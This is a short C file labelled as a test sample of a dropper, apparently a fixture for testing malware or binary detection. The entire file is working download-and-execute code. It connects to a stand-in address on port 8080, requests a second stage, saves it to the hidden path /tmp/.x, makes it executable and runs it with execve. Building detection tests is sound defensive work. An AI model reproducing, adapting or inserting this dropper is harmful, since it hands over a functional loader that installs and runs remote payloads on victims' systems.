/* Test sample: a static, unstripped dropper: socket + connect, write, chmod, execve. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *url = "http://198.51.100.21:8080/stage2";

int main(void) {
    char buf[4096];
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(8080);
    inet_pton(AF_INET, "198.51.100.21", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
    write(s, url, strlen(url));
    int f = open("/tmp/.x", O_WRONLY | O_CREAT, 0600);
    ssize_t n;
    while ((n = read(s, buf, sizeof buf)) > 0) write(f, buf, n);
    close(f);
    chmod("/tmp/.x", 0755);
    char *argv[] = {"/tmp/.x", 0};
    execve("/tmp/.x", argv, 0);
    return 0;
}
